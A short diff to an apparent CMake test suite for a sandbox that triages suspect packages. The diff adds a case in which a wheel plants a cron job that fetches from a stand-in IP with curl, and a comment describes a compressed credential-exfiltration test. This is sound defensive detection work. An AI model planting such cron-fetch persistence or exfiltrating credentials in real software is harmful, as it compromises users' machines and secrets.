@@ -313,6 +313,12 @@ add_test(NAME triage_relative_profiles
   COMMAND ${UNSHARE} --net -- bash -c
     "cd '${CMAKE_SOURCE_DIR}' && PKGTRAP_PROFILES=profiles exec bash '${TRIAGE_DIR}/built_test.sh' geofence tz-offset-utils-2.0.3.tgz 0 30 - -- --phase install=ok --phase lifecycle:postinstall=ok")
 triage_test_properties(triage_relative_profiles)
+# A cron job installed through crontab(1): the honeytoken HOME's crontab
+# (this host has none) keeps the table, so the job is a config-change.
+triage_built(wheel_crontab_job cronjob sched_sync_agent-0.2.0-py3-none-any.whl 1 30 -
+  --phase import=ok
+  --event "import|exec|path~/.local/bin/crontab|argv~'crontab', '-'"
+  --event "import|config-change|path~/.local/share/crontab.txt|added~curl -fsS http://198.51.100.9/u")
 # Compressed exfiltration: a gzipped tarball of the credential directories
 # uploaded raw, and the environment zlib-compressed under base64 in a JSON
 # field; the fake network inflates what it is sent before the token scan.
